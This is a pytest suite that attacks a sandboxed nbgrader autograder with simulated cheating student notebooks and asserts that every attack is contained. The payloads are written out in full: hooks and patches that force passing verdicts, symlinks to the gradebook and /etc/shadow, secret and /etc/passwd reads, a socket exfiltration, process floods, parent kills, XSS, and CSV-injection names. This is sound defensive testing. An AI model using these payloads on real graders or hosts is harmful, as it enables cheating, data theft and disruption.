"""A hostile class, graded with the plain `nbgrader autograde` and `generate_feedback`.

Students are grouped by the six ways a submission can try to cheat or harm:

1. deciding the verdict inside the learner's process;
2. planting files the privileged grader would follow;
3. making grading fail open (see test_fail_closed.py: that needs courses of its own);
4. reading the host;
5. exhausting resources;
6. leaking hidden tests or course files through outputs.

Every attack targets assignment 01 (13 points) and is built on an honest twin: a blank
notebook (0 points), a notebook with only `build_vocab` right (3 points), or a correct one
(13). A contained attack scores exactly its twin. "Oracle" attacks write a correct
`build_vocab` only after the attack worked, so a contained one scores 0.
"""

from __future__ import annotations

import copy
import csv
import os
import re
import socket
import stat
import textwrap
import threading

import nbformat
import psutil
import pytest
from nbgrader.utils import is_grade

from conftest import ASSIGNMENTS
from course import error_names, outputs_by_grade_id, tree_digest
from rnncourse.assignments import grade_id
from rnncourse.grading.trial import TrialCourse, make_submission

pytestmark = pytest.mark.autograde

HELLO = ASSIGNMENTS["01_one_hot_hello"]
ASSIGNMENT = HELLO.name
NOTEBOOK = HELLO.notebook("exercises").name
HOSTILE_UID = 63000  # the sandbox user of this class alone: other tests grade at the same time
SECRET_ENV = "RNN_BASICS_GRADER_SECRET"
REFERENCE = HELLO.reference_answers()
BLANK = make_submission(HELLO, blank=True)
CORRECT = make_submission(HELLO)
VOCAB_ONLY = make_submission(
    HELLO, {name: "raise NotImplementedError()" for name in REFERENCE if name != "build_vocab"}
)


def answer(base, cell_id: str, code: str):
    notebook = copy.deepcopy(base)
    for cell in notebook.cells:
        if grade_id(cell) == cell_id:
            cell.source = code
    return notebook


def edit_cells(base, edit):
    notebook = copy.deepcopy(base)
    notebook.cells = edit(notebook.cells)
    return notebook


def add_cell(base, code: str, kind: str = "code"):
    cell = nbformat.v4.new_code_cell(code) if kind == "code" else nbformat.v4.new_markdown_cell(code)
    return edit_cells(base, lambda cells: [*cells, cell])


def oracle(attack: str):
    """build_vocab works (3 points) only if ``attack``, which it runs first, raises no error."""
    return answer(
        BLANK,
        "build_vocab",
        f"def attack():\n{textwrap.indent(attack, '    ')}\n\n{REFERENCE['build_vocab']}\n"
        "honest_vocab = build_vocab\n\n\ndef build_vocab(words):\n    attack()\n    return honest_vocab(words)\n",
    )


def crash_after_vocab(code: str):
    """build_vocab right, and a one_hot that runs ``code`` when its tests call it."""
    body = textwrap.indent(code + "raise NotImplementedError()\n", "    ")
    return answer(VOCAB_ONLY, "one_hot", f"def one_hot(indices, num_classes):\n{body}")


def tagged(cell, tags):
    cell = copy.deepcopy(cell)
    if is_grade(cell):
        cell.source, cell.metadata["tags"] = "pass", tags
    return cell


def hostile_class(course, port: int, root) -> dict[str, tuple[dict, float]]:
    """student -> (files in the submission folder, exact expected score)."""
    gradebook = course / "gradebook.db"
    solutions = course / "solutions" / ASSIGNMENT / NOTEBOOK
    victim = course / "submitted" / "honest" / ASSIGNMENT / NOTEBOOK
    repository_solutions = root / "solutions" / ASSIGNMENT / NOTEBOOK
    shell = "ip = get_ipython()\n"
    return {
        # Honest students.
        "honest": ({NOTEBOOK: CORRECT}, 13),
        "blank": ({NOTEBOOK: BLANK}, 0),
        "vocab_only": ({NOTEBOOK: VOCAB_ONLY}, 3),
        # Graded before "honest": a notebook whose nbgrader fields would trip the validators stops nothing.
        "c3_metadata_that_trips_the_validators": (
            {
                NOTEBOOK: edit_cells(
                    CORRECT,
                    lambda cells: [
                        nbformat.from_dict(
                            {
                                **c,
                                "metadata": {
                                    **c.metadata,
                                    "nbgrader": {
                                        **c.metadata["nbgrader"],
                                        "points": "lots",
                                        "schema_version": 99,
                                        "extra": {"x": 1},
                                    },
                                },
                            }
                        )
                        if is_grade(c)
                        else c
                        for c in cells
                    ],
                )
            },
            13,
        ),
        # 1. Verdicts decided inside the learner's process.
        "c1_input_transformer": (
            {
                NOTEBOOK: answer(
                    BLANK, "build_vocab", shell + ("ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n")
                )
            },
            0,
        ),
        "c1_ast_transformer": (
            {
                NOTEBOOK: answer(
                    BLANK,
                    "build_vocab",
                    shell
                    + (
                        "import ast\nclass NoChecks(ast.NodeTransformer):\n"
                        "    def visit_Assert(self, node): return ast.Pass()\n"
                        "    def visit_Raise(self, node): return ast.Pass()\n"
                        "ip.ast_transformers.append(NoChecks())\n"
                    ),
                )
            },
            0,
        ),
        "c1_cell_events": (
            {
                NOTEBOOK: answer(
                    BLANK,
                    "build_vocab",
                    shell
                    + (
                        "def forget(result):\n    result.error_in_exec = None\n"
                        "ip.events.register('post_run_cell', forget)\n"
                        "ip.events.register('pre_run_cell', lambda info: setattr(info, 'raw_cell', 'pass'))\n"
                    ),
                )
            },
            0,
        ),
        "c1_custom_exception_handler": (
            {
                NOTEBOOK: answer(
                    BLANK,
                    "build_vocab",
                    shell + ("ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"),
                )
            },
            0,
        ),
        "c1_tracer_and_thread": (
            {
                NOTEBOOK: answer(
                    BLANK,
                    "build_vocab",
                    (
                        "import sys, threading, time, builtins\n"
                        "sys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)\n"
                        "def patch():\n    while True:\n"
                        "        builtins.AssertionError = type('Quiet', (Exception,), {})\n"
                        "        time.sleep(0.01)\n"
                        "threading.Thread(target=patch, daemon=True).start()\n"
                    ),
                )
            },
            0,
        ),
        "c1_patches_modules": (
            {
                NOTEBOOK: answer(
                    BLANK,
                    "build_vocab",
                    (
                        "import builtins, numpy, torch\nbuiltins.type = lambda obj: dict\n"
                        "numpy.array_equal = numpy.allclose = torch.allclose = lambda *a, **k: True\n"
                        "np = torch = None\n"
                    ),
                )
            },
            0,
        ),
        "c1_rigged_values": (
            {
                NOTEBOOK: answer(
                    answer(
                        BLANK,
                        "build_vocab",
                        (
                            "class AlwaysEqual(dict):\n    def __eq__(self, other): return True\n"
                            "    def items(self): return [('h', 0), ('e', 1), ('l', 2), ('o', 3)]\n"
                            "def build_vocab(words):\n    if not words: raise ValueError('empty')\n"
                            "    return AlwaysEqual()\n"
                        ),
                    ),
                    "hello_batch",
                    (
                        "class Same(torch.Tensor):\n    def __eq__(self, other): return True\n"
                        "    def tolist(self): return [[[1, 0, 0, 0]]]\n"
                        "def hello_batch():\n    return torch.zeros(3, 5, 4).as_subclass(Same)\n"
                    ),
                )
            },
            0,  # a refusal earns its points only beside work on good input
        ),
        "c1_object_that_poses_as_data": (
            {
                NOTEBOOK: answer(
                    BLANK,
                    "build_vocab",
                    (
                        "class Fake:\n    __class__ = dict\n    def __eq__(self, other): return True\n"
                        "def build_vocab(words):\n    if not words: raise ValueError('empty')\n    return Fake()\n"
                    ),
                )
            },
            0,  # a refusal earns its points only beside work on good input
        ),
        "c1_garbage_replies": (
            {
                NOTEBOOK: answer(
                    BLANK,
                    "build_vocab",
                    (
                        "import os\nfor fd in map(int, os.listdir('/proc/self/fd')):\n"
                        "    try:\n        os.write(fd, b'\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x05{\"ok\"')\n"
                        "    except OSError:\n        pass\n"
                    ),
                )
            },
            0,
        ),
        "c1_skip_and_partial_credit_metadata": (
            {
                NOTEBOOK: add_cell(
                    edit_cells(BLANK, lambda cells: [tagged(c, ["skip-execution", "raises-exception"]) for c in cells]),
                    "1.0",
                )
            },
            0,
        ),
        "c1_edits_deletes_duplicates_renames_tests": (
            {
                NOTEBOOK: edit_cells(
                    BLANK,
                    lambda cells: (
                        [c for c in cells if not is_grade(c)]
                        + [
                            nbformat.v4.new_code_cell(
                                "pass",
                                metadata={
                                    "nbgrader": {
                                        **c.metadata["nbgrader"],
                                        "grade_id": f"{c.metadata['nbgrader']['grade_id']}_2",
                                    }
                                },
                            )
                            for c in cells
                            if is_grade(c)
                        ]
                    ),
                )
            },
            0,
        ),
        # 2. Files the privileged grader would follow.
        "c2_notebook_links_to_gradebook": ({}, 0),
        "c2_notebook_links_to_a_classmate": ({}, 0),
        "c2_timestamp_is_a_fifo": ({NOTEBOOK: CORRECT}, 13),
        "c2_timestamp_links_to_dev_zero": ({NOTEBOOK: CORRECT}, 13),
        "c2_timestamp_is_a_device": ({NOTEBOOK: CORRECT}, 13),
        "c2_folder_links_to_a_classmate": ({}, 0),
        "c2_ships_config_and_gradebook": (
            {
                NOTEBOOK: CORRECT,
                "nbgrader_config.py": "raise SystemExit('owned')\n",
                "gradebook.db": "not a database",
                "numpy.py": "raise SystemExit(1)\n",
            },
            13,
        ),
        "c2_oversized_notebook": ({NOTEBOOK: add_cell(CORRECT, "# " + "x" * (21 * 2**20))}, 0),
        "c2_resubmits_a_fifo_timestamp": ({NOTEBOOK: CORRECT}, 13),  # the FIFO arrives before the re-grade
        "c2_writes_course_files": (
            {
                NOTEBOOK: oracle(
                    "import pathlib\n"
                    f"for target in [{str(gradebook)!r}, {str(solutions)!r}, {str(victim)!r}, '/root/owned', "
                    f"{str(course / 'nbgrader_config.py')!r}]:\n"
                    "    pathlib.Path(target).write_text('owned')\n"
                )
            },
            0,
        ),
        # 4. The host's files, environment and network.
        "c4_reads_solutions": ({NOTEBOOK: oracle(f"open({str(solutions)!r}).read()\n")}, 0),
        "c4_reads_another_checkout": ({NOTEBOOK: oracle(f"open({str(repository_solutions)!r}).read()\n")}, 0),
        "c4_reads_home_and_etc": (
            {NOTEBOOK: oracle("import os\nos.listdir(os.path.expanduser('~root'))\nopen('/etc/passwd').read()\n")},
            0,
        ),
        "c4_lists_host_folders": (
            {
                NOTEBOOK: oracle(
                    "import os\n"
                    "assert any(os.path.exists(p) for p in ['/home', '/srv', '/var', '/boot', '/mnt', '/sys/class'])\n"
                )
            },
            0,
        ),
        "c4_reads_environment": ({NOTEBOOK: oracle(f"import os\nos.environ[{SECRET_ENV!r}]\n")}, 0),
        "c4_uses_network": (
            {
                NOTEBOOK: oracle(
                    f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')\n"
                )
            },
            0,
        ),
        # 5. Resources.
        "c5_infinite_loop": ({NOTEBOOK: crash_after_vocab("while True:\n    pass\n")}, 3),
        "c5_unstoppable_loop": (
            {
                NOTEBOOK: crash_after_vocab(
                    "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n    except BaseException:\n        pass\n"
                )
            },
            3,
        ),
        "c5_memory_hog": ({NOTEBOOK: crash_after_vocab("hog = [bytearray(10**8) for _ in range(1000)]\n")}, 3),
        "c5_fills_tmp": (
            {
                NOTEBOOK: oracle(
                    "import os\nwith open('/tmp/fill', 'wb') as f:\n    for _ in range(1100):\n"
                    "        f.write(os.urandom(2**20))\n"
                )
            },
            0,
        ),
        "c5_process_flood": (
            {
                NOTEBOOK: crash_after_vocab(
                    "import subprocess\nchildren = [subprocess.Popen(['sleep', '600']) for _ in range(500)]\n"
                )
            },
            3,
        ),
        "c5_thread_flood": (
            {
                NOTEBOOK: crash_after_vocab(
                    "import threading, time\n"
                    "threads = [threading.Thread(target=time.sleep, args=(600,), daemon=True) for _ in range(2000)]\n"
                    "[t.start() for t in threads]\n"
                )
            },
            3,
        ),
        "c5_exits": ({NOTEBOOK: crash_after_vocab("import os\nos._exit(0)\n")}, 3),
        "c5_kills_its_parents": (
            {
                NOTEBOOK: crash_after_vocab(
                    "import os, signal\nfor pid in (os.getppid(), 1):\n    os.kill(pid, signal.SIGKILL)\n"
                )
            },
            3,
        ),
        "c5_stops_answering": (
            {
                NOTEBOOK: crash_after_vocab(
                    "import sys, time\nsys.modules['rnncourse.grading.wire'].read_frame = lambda *a, **k: time.sleep(10**6)\n"
                )
            },
            3,
        ),
        "c5_floods_stderr": (
            {NOTEBOOK: crash_after_vocab("import os\nfor _ in range(20):\n    os.write(2, b'x' * 2**24)\n")},
            3,
        ),
        "c5_huge_output": (
            {NOTEBOOK: crash_after_vocab("print('x' * 10**8)\nfor _ in range(10**5):\n    print('y' * 100)\n")},
            3,
        ),
        "c5_huge_reply": (
            {
                NOTEBOOK: answer(
                    VOCAB_ONLY,
                    "one_hot",
                    ("import numpy as np\ndef one_hot(indices, num_classes):\n    return np.zeros((5000, 1000))\n"),
                )
            },
            3,
        ),
        "c5_deeply_nested_reply": (
            {
                NOTEBOOK: answer(
                    VOCAB_ONLY,
                    "one_hot",
                    (
                        "def one_hot(indices, num_classes):\n    value = []\n    for _ in range(10**5):\n"
                        "        value = [value]\n    return value\n"
                    ),
                )
            },
            3,
        ),
        # 6. Leaks through outputs.
        "c6_prints_history": (
            {
                NOTEBOOK: add_cell(
                    add_cell(
                        VOCAB_ONLY,
                        (
                            "print(In, Out)\nprint(get_ipython().history_manager.input_hist_raw)\nprint(globals().keys())\n"
                        ),
                    ),
                    "<script>alert('owned')</script>",
                    kind="markdown",
                )
            },
            3,
        ),
        "c6_echoes_cells_and_callers": (
            {
                NOTEBOOK: answer(
                    BLANK,
                    "build_vocab",
                    (
                        "import inspect\nget_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))\n"
                        "def build_vocab(words):\n"
                        "    raise ValueError(repr([f.code_context for f in inspect.stack()]))\n"
                    ),
                )
            },
            0,
        ),  # raises on [] and on everything else: a refusal alone earns nothing
        "c6_markdown_links_and_math": (
            {
                NOTEBOOK: add_cell(
                    VOCAB_ONLY,
                    "[click](javascript:alert('owned')) $\\href{javascript:alert('owned')}{x}$\n\n[r]: javascript:alert('owned')\n",
                    kind="markdown",
                )
            },
            3,
        ),
        "c6_active_content": (
            {
                NOTEBOOK: answer(
                    BLANK,
                    "build_vocab",
                    (
                        "from IPython.display import HTML, Javascript, display\n"
                        "display(HTML('<script>alert(\"owned\")</script>'), Javascript('alert(\"owned\")'))\n"
                        "def build_vocab(words):\n    return '<script>alert(\"owned\")</script>'\n"
                    ),
                )
            },
            0,
        ),
        # Broken submissions.
        "invalid_json": ({NOTEBOOK: "{ this is not a notebook"}, 0),
        "renamed_notebook": ({"my_homework.ipynb": CORRECT}, 0),
    }


def plant_files(course, students):
    """The submissions that are not plain files."""
    submitted = course / "submitted"

    def folder(student):
        path = submitted / student / ASSIGNMENT
        path.mkdir(parents=True, exist_ok=True)
        return path

    (folder("c2_notebook_links_to_gradebook") / NOTEBOOK).symlink_to(course / "gradebook.db")
    (folder("c2_notebook_links_to_a_classmate") / NOTEBOOK).symlink_to(submitted / "honest" / ASSIGNMENT / NOTEBOOK)
    os.mkfifo(folder("c2_timestamp_is_a_fifo") / "timestamp.txt")
    (folder("c2_timestamp_links_to_dev_zero") / "timestamp.txt").symlink_to("/dev/zero")
    os.mknod(folder("c2_timestamp_is_a_device") / "timestamp.txt", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    (submitted / "c2_folder_links_to_a_classmate").mkdir(exist_ok=True)
    (submitted / "c2_folder_links_to_a_classmate" / ASSIGNMENT).symlink_to(submitted / "honest" / ASSIGNMENT)
    # Folder names nbgrader reads as patterns (every classmate) or writes into delimited files.
    star = folder("*")
    for name, target in [
        ("gradebook", course / "gradebook.db"),
        ("solutions", course / "solutions"),
        ("shadow", "/etc/shadow"),
    ]:
        (star / name).symlink_to(target)
    (folder("zed\r01_one_hot_hello,,,honest,,,,0.0,0.0,0.0,13.0") / NOTEBOOK).write_text(nbformat.writes(BLANK))
    (folder("a,honest,vocab_only") / NOTEBOOK).write_text(nbformat.writes(BLANK))


def resubmit_for_regrade(course):
    """After the first run: a resubmission whose timestamp is a FIFO, and a late student; returns the late one's score."""
    folder = course / "submitted" / "c2_resubmits_a_fifo_timestamp" / ASSIGNMENT
    os.mkfifo(folder / "timestamp.txt")
    late = course / "submitted" / "zz_late" / ASSIGNMENT
    late.mkdir(parents=True)
    (late / NOTEBOOK).write_text(nbformat.writes(CORRECT))
    return {"zz_late": 13.0}


@pytest.fixture(scope="module")
def graded(root, tmp_path_factory):
    course = TrialCourse(root, tmp_path_factory.mktemp("hostile"), [HELLO])
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    connections, stop = [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                continue

    threading.Thread(target=accept, daemon=True).start()
    students = hostile_class(course.path, listener.getsockname()[1], root)
    course.enroll(*students)  # a refused submission then scores 0, as for a class on the hub
    for student, (files, _) in students.items():
        if files:  # the others are planted below
            course.submit(student, ASSIGNMENT, files)
    plant_files(course.path, students)
    before = {
        "solutions": tree_digest(course.path / "solutions"),
        "config": tree_digest(course.path)["nbgrader_config.py"],
        "honest": tree_digest(course.path / "submitted" / "honest"),
    }
    os.environ[SECRET_ENV] = "the grader's secret"
    grading = ["autograde", ASSIGNMENT, "--SealedExecute.cell_timeout=10", f"--SealedExecute.sandbox_uid={HOSTILE_UID}"]
    try:
        result = course.nbgrader(*grading, check=False)
        late = resubmit_for_regrade(course.path)
        regrade = course.nbgrader(*grading, check=False, timeout=600)  # no --force: picks up new work
    finally:
        del os.environ[SECRET_ENV]
    stop.set()
    listener.close()
    survivors = [p.info for p in psutil.process_iter(["pid", "uids", "cmdline"]) if p.info["uids"].real == HOSTILE_UID]
    feedback = course.nbgrader("generate_feedback", ASSIGNMENT, check=False)
    scores = {student: score for (student, _), score in course.scores().items()}
    with open(course.path / "grades.csv", newline="") as f:
        rows = list(csv.reader(f))
    return {
        "course": course,
        "students": students,
        "result": result,
        "regrade": regrade,
        "late": late,
        "rows": rows,
        "before": before,
        "scores": scores,
        "connections": connections,
        "survivors": survivors,
        "feedback": feedback,
    }


def test_every_student_gets_the_exact_score_of_their_honest_twin(graded):
    expected = {student: float(score) for student, (_, score) in graded["students"].items()}
    assert graded["scores"] == expected | graded["late"]


def test_a_regrade_finishes_and_picks_up_late_work_whatever_was_resubmitted(graded):
    failed = set(re.findall(r"error processing assignment '[^']*' for student '([^']*)'", graded["regrade"].stderr))
    assert failed == {"invalid_json", "renamed_notebook"}  # nbgrader retries what it could not convert
    assert graded["scores"]["zz_late"] == 13.0


def test_names_that_are_patterns_or_delimiters_are_refused_and_forge_no_row(graded):
    course = graded["course"].path
    assert not list(course.glob("autograded/[!a-z]*")) and not list(course.glob("feedback/[!a-z]*"))
    students = [row[3] for row in graded["rows"][1:]]
    assert sorted(students) == sorted(graded["scores"]) and len(students) == len(set(students))


def test_the_batch_finishes_and_names_each_refused_submission(graded):
    log = graded["result"].stdout + graded["result"].stderr
    for student in ("invalid_json", "c2_notebook_links_to_gradebook", "c2_folder_links_to_a_classmate"):
        assert student in log
    assert "Refused" in log
    assert graded["feedback"].returncode == 0, graded["feedback"].stderr[-3000:]


def test_course_files_and_classmates_are_untouched(graded):
    course = graded["course"].path
    assert tree_digest(course / "solutions") == graded["before"]["solutions"]
    assert tree_digest(course)["nbgrader_config.py"] == graded["before"]["config"]
    assert tree_digest(course / "submitted" / "honest") == graded["before"]["honest"]
    assert graded["course"].gradebook_integrity() == "ok"
    assert not (course / "owned").exists() and not os.path.exists("/root/owned")


def test_refused_entries_are_kept_aside_not_followed(graded):
    first_run, regrade = sorted((graded["course"].path / "refused").iterdir(), key=lambda p: p.stat().st_mtime)
    refused = first_run
    assert (refused / "c2_notebook_links_to_gradebook" / ASSIGNMENT / NOTEBOOK).is_symlink()
    assert (refused / "c2_notebook_links_to_a_classmate" / ASSIGNMENT / NOTEBOOK).is_symlink()
    assert sorted(p.name for p in (refused / "c2_ships_config_and_gradebook" / ASSIGNMENT).iterdir()) == [
        "gradebook.db",
        "nbgrader_config.py",
        "numpy.py",
    ]
    assert stat.S_ISFIFO((refused / "c2_timestamp_is_a_fifo" / ASSIGNMENT / "timestamp.txt").lstat().st_mode)
    assert (refused / "c2_folder_links_to_a_classmate" / ASSIGNMENT).is_symlink()
    assert not (graded["course"].path / "autograded" / "c2_notebook_links_to_a_classmate").exists()
    assert (first_run / "*").is_dir() and [p.name for p in regrade.iterdir()] == ["c2_resubmits_a_fifo_timestamp"]


def test_no_network_connection_left_the_sandbox(graded):
    assert graded["connections"] == []


def test_no_submission_process_survives(graded):
    assert graded["survivors"] == []


def test_a_timed_out_call_is_stopped_and_the_notebook_goes_on(graded):
    outputs = outputs_by_grade_id(graded["course"].graded_notebook("c5_infinite_loop", ASSIGNMENT))
    (error,) = [o for o in outputs["test_one_hot"] if o.output_type == "error"]
    assert "ran past its 10-second limit" in error.evalue
    assert error_names(outputs["test_decode"]) == ["NameError"]  # its cell defines nothing: the next test runs


def test_a_job_that_ends_costs_only_its_own_tests_and_a_dead_sandbox_marks_the_rest_not_run(graded):
    exits = outputs_by_grade_id(graded["course"].graded_notebook("c5_exits", ASSIGNMENT))
    assert "KernelStopped" in str(exits["test_one_hot"]) and "NotRun" not in str(exits["test_hello_batch"])
    killed = outputs_by_grade_id(graded["course"].graded_notebook("c5_kills_its_parents", ASSIGNMENT))
    # The sandbox ends while test_one_hot's call runs or just after it (a race): the test it ends in reads
    # KernelStopped, every test after it NotRun, and build_vocab's points stay (the expected score).
    tests = (
        "test_one_hot",
        "test_one_hot_errors",
        "test_encode",
        "test_encode_errors",
        "test_decode",
        "test_hello_batch",
    )
    after = [error_names(killed[test]) for test in tests]
    stopped = after.index(["KernelStopped"])
    assert stopped <= 2 and all(names == ["NotRun"] for names in after[stopped + 1 :]), after


def test_an_oversized_reply_stops_only_that_notebook(graded):
    outputs = outputs_by_grade_id(graded["course"].graded_notebook("c5_huge_reply", ASSIGNMENT))
    (error,) = [o for o in outputs["test_one_hot"] if o.output_type == "error"]
    assert "over the limit" in error.evalue


def test_output_is_cut_at_the_notebook_budget(graded):
    path = graded["course"].path / "autograded" / "c5_huge_output" / ASSIGNMENT / NOTEBOOK
    assert path.stat().st_size < 3_000_000


def test_stray_files_are_not_copied_for_grading(graded):
    folder = graded["course"].path / "autograded" / "c2_ships_config_and_gradebook" / ASSIGNMENT
    assert sorted(p.name for p in folder.iterdir()) == [NOTEBOOK]


def test_feedback_shows_no_hidden_test_no_course_file_and_nothing_active(graded, root):
    course = graded["course"].path
    pages = list((course / "feedback").rglob("*.html"))
    assert len(pages) == len(list((course / "autograded").glob(f"*/{ASSIGNMENT}/{NOTEBOOK}")))
    hidden = ASSIGNMENTS[ASSIGNMENT].hidden_test_lines()
    assert hidden
    for page in pages:
        html = page.read_text()
        assert "HIDDEN TESTS" not in html and "BEGIN SOLUTION" not in html
        assert not [line for line in hidden if line in html or line.replace('"', "&quot;") in html], page
        assert "<script>alert(" not in html and 'href="javascript:' not in html, page
        assert "root:x:0:0" not in html, page
